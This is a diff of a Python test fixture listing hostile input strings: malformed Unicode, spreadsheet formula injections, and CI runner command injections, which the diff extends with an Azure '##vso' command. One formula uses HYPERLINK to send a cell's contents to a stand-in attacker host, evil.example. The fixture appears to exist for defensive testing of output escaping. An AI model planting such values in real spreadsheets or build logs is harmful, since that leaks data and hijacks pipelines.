@@ -94,11 +94,11 @@ HOSTILE_TEXTS = {
     "letters from right to left": "\u05d0\u05d1\u05d2 (\u0627\u0644\u062f\u0648\u0631)",
     "halves of characters": "\ud800 \udfff \udc00\ud800",
     "what XML has no way to write": "\ufffe\uffff\x00\x0b",
-    "beyond the first plane": "\U0001f511\U000e0041\U0010ffff",
+    "beyond the first plane": "\U0001f511\U000e0041\U0010fffd",
     "a formula": '=HYPERLINK("https://evil.example/?"&A1,"open")',
     "a formula behind a separator": 'a;=1+1;"@SUM(1)",-1\t+1',
     "a formula behind a line break": "\r\n=1+1\n@x",
-    "commands of a runner": "::error::x\n##[stop-commands]y\n::set-output name=a::b",
+    "commands of a runner": "::error::x\n##[stop-commands]y ##vso[task.complete]z\n::set-output name=a::b",
     "very long": "x" * 50_000,
     "nothing": "",
 }
